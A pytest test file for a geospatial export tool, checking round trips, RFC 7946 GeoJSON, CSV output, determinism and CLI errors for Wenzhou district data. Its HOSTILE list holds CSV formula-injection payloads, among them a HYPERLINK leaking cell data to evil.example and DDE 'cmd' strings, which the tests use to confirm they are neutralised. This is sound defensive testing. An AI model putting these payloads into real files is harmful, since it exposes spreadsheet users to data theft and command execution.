"""Exports: round trips, RFC 7946 GeoJSON, CSV injection, determinism, atomic writes, CLI."""

import csv
import dataclasses
import json
import subprocess
import sys
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest
import shapely
import yaml

import geo
from geo import cli, export

ROOT = Path(__file__).resolve().parents[1]
FORMATS = ["geojson", "gpkg", "parquet", "csv"]
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def written(atlas, tmp_path_factory):
    folder = tmp_path_factory.mktemp("export")
    return {fmt: atlas.export(folder / f"w.{fmt}") for fmt in FORMATS}


def read_back(path: Path, fmt: str):
    if fmt == "parquet":
        return gpd.read_parquet(path)
    return pyogrio.read_dataframe(path)


def read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "parquet"])
def test_read_back_equals_written(atlas, written, fmt):
    expected = export.districts_table(atlas)
    back = read_back(written[fmt], fmt)
    assert back.crs == "EPSG:4326"
    pd.testing.assert_frame_equal(pd.DataFrame(back.drop(columns="geometry")),
                                  pd.DataFrame(expected.drop(columns="geometry")))
    assert shapely.equals_identical(back.geometry.to_numpy(),
                                    expected.geometry.to_numpy()).all()


@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "parquet"])
def test_lists_and_geometry_round_trip_to_the_atlas(atlas, written, fmt):
    back = read_back(written[fmt], fmt)
    assert [export.split_list(r) for r in back["elements"]] == list(atlas.districts["elements"])
    assert [export.split_list(i) for i in back["industries"]] == list(
        atlas.districts["industries"])
    assert list(back["has_ic"]) == ["ic" in i for i in atlas.districts["industries"]]
    original = atlas.districts.geometry.to_numpy()
    assert shapely.equals_exact(back.geometry.to_numpy(), shapely.orient_polygons(original),
                                tolerance=10 ** -export.PRECISION).all()


def test_geopandas_read_file_opens_geojson_and_gpkg(written):
    for fmt in ("geojson", "gpkg"):
        back = gpd.read_file(written[fmt])
        assert len(back) == 12 and "乐清市" in set(back["name_zh"])


def test_geojson_follows_rfc_7946(written):
    data = json.loads(written["geojson"].read_text("utf-8"))
    assert list(data) == ["type", "features"] and "crs" not in data
    feature = data["features"][0]
    assert list(feature) == ["type", "properties", "geometry"]
    assert list(feature["properties"])[:6] == ["adcode", "name_zh", "name_en", "elements",
                                               "industries", "area_km2"]
    for feature in data["features"]:
        for polygon in shapely.get_parts(shapely.geometry.shape(feature["geometry"])):
            assert polygon.exterior.is_ccw
            assert not any(ring.is_ccw for ring in polygon.interiors)
            for x, y in polygon.exterior.coords:
                assert 119 < x < 122 and 27 < y < 29  # lon, lat of Wenzhou
                assert round(x, export.PRECISION) == x and round(y, export.PRECISION) == y


def test_geojson_is_wgs84_even_from_a_gcj02_atlas(atlas):
    from geo.atlas.join import join

    gcj = join(atlas.plan, datum="gcj02")
    assert gcj.districts.attrs.get("datum") == "gcj02"
    ours = export.districts_table(gcj).geometry.to_numpy()
    assert shapely.equals_exact(ours, export.districts_table(atlas).geometry.to_numpy(),
                                tolerance=1e-5).all()


def test_csv_is_the_district_by_industry_matrix(atlas, written):
    raw = written["csv"].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf\"adcode\"") and b"\r\n" in raw
    rows = read_csv(written["csv"])
    assert rows[0] == ["adcode", "name_zh", "name_en", *(i.id for i in atlas.plan.industries)]
    assert len(rows) == 1 + len(atlas.districts)
    by_name = {row[2]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_name["Yueqing"]["ic"] == "north-core"
    assert by_name["Lucheng"]["ic"] == "corridor"
    assert by_name["Taishun"]["ic"] == ""
    assert rows[1:] == export.matrix(atlas).to_numpy().tolist()


def test_csv_neutralises_formulas():
    for cell in HOSTILE:
        assert export.neutralise(cell) == "'" + cell
    assert export.neutralise("Lucheng") == "Lucheng" and export.neutralise("") == ""


@pytest.fixture(scope="module")
def hostile_atlas(atlas, tmp_path_factory):
    data = yaml.safe_load((ROOT / "layers" / "wenzhou-2024.yaml").read_text("utf-8"))
    for n, industry in enumerate(data["industries"]):
        industry["zh"] = industry["en"] = HOSTILE[n % len(HOSTILE)] + str(n)
    data["date"] = HOSTILE[0]
    path = tmp_path_factory.mktemp("hostile") / "wenzhou-2024.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), "utf-8")
    loaded = geo.load(path)
    districts = loaded.districts.copy()
    districts["name_zh"] = [HOSTILE[n % len(HOSTILE)] for n in range(len(districts))]
    districts["name_en"] = [h + "x" for h in districts["name_zh"]]
    return dataclasses.replace(loaded, districts=districts)


def test_csv_of_a_hostile_plan_has_no_formula(hostile_atlas, tmp_path):
    rows = read_csv(hostile_atlas.export(tmp_path / "h.csv"))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    names = [row[1] for row in rows[1:]]
    assert names == ["'" + h for h in hostile_atlas.districts["name_zh"]]


def test_hostile_text_round_trips_exactly_in_geo_formats(hostile_atlas, tmp_path):
    expected = export.districts_table(hostile_atlas).drop(columns="geometry")
    for fmt in ("geojson", "gpkg", "parquet"):
        back = read_back(hostile_atlas.export(tmp_path / f"h.{fmt}"), fmt)
        pd.testing.assert_frame_equal(pd.DataFrame(back.drop(columns="geometry")),
                                      pd.DataFrame(expected))


@pytest.mark.parametrize("fmt", FORMATS)
def test_same_atlas_gives_the_same_bytes(atlas, written, fmt, tmp_path):
    again = atlas.export(tmp_path / f"again.{fmt}")
    assert again.read_bytes() == written[fmt].read_bytes()


def test_gpkg_is_the_same_in_another_process_later(written, tmp_path):
    path = tmp_path / "later.gpkg"
    code = f"import geo; geo.load('wenzhou-2024').export({str(path)!r})"
    subprocess.run([sys.executable, "-c", code], check=True)
    assert path.read_bytes() == written["gpkg"].read_bytes()


def test_gpkg_timestamp_is_the_plan_date(written):
    import sqlite3

    with sqlite3.connect(written["gpkg"]) as db:
        (stamp,) = db.execute("select last_change from gpkg_contents").fetchone()
    assert stamp.startswith("2024-06-20")


def test_format_from_suffix_or_name(atlas, tmp_path):
    path = atlas.export(tmp_path / "plan.data", format="GeoJSON")
    assert json.loads(path.read_text("utf-8"))["type"] == "FeatureCollection"
    assert export.check_format(None, "x.geoparquet") == "parquet"
    assert export.check_format(".gpkg") == "gpkg"


@pytest.mark.parametrize("call", [
    lambda a, p: a.export(p / "x.shp"),
    lambda a, p: a.export(p / "x.csv", format="xlsx"),
    lambda a, p: a.export(p / "file" / "x.geojson"),
])
def test_bad_format_or_path_is_one_line_and_writes_nothing(atlas, tmp_path, call):
    (tmp_path / "file").write_text("not a folder")
    with pytest.raises(geo.OutputError) as caught:
        call(atlas, tmp_path)
    assert "\n" not in str(caught.value)
    assert [p.name for p in tmp_path.iterdir()] == ["file"]


def test_unknown_format_suggests(atlas, tmp_path):
    with pytest.raises(geo.AtlasError, match="did you mean gpkg"):
        atlas.export(tmp_path / "x", format="gpgk")


def run(*args):
    return subprocess.run([sys.executable, "-m", "geo.cli", *args], capture_output=True,
                          text=True)


def test_cli_writes_plan_file(tmp_path, capsys):
    assert cli.main(["export", "wenzhou-2024", "--format", "parquet", "-o", str(tmp_path)]) == 0
    path = tmp_path / "wenzhou-2024.parquet"
    assert capsys.readouterr().out.strip() == str(path)
    assert len(gpd.read_parquet(path)) == 12
    assert [p.name for p in tmp_path.iterdir()] == ["wenzhou-2024.parquet"]


@pytest.mark.parametrize("args, message", [
    (["--format", "shp"], "unknown export format 'shp'"),
    (["--format", "csv", "-o", "{blocker}/sub"], "cannot write"),
])
def test_cli_errors_are_one_line_exit_2(tmp_path, args, message):
    blocker = tmp_path / "blocker"
    blocker.write_text("not a folder")
    args = [a.replace("{blocker}", str(blocker)) for a in args]
    result = run("export", "wenzhou-2024", *args)
    assert result.returncode == 2 and result.stdout == ""
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and message in lines[0] and "Traceback" not in result.stderr
    assert [p.name for p in tmp_path.iterdir()] == ["blocker"]


def test_cli_unknown_plan_exit_2(tmp_path):
    result = run("export", "wenzhou-2042", "-o", str(tmp_path))
    assert result.returncode == 2 and "did you mean" in result.stderr
    assert list(tmp_path.iterdir()) == []
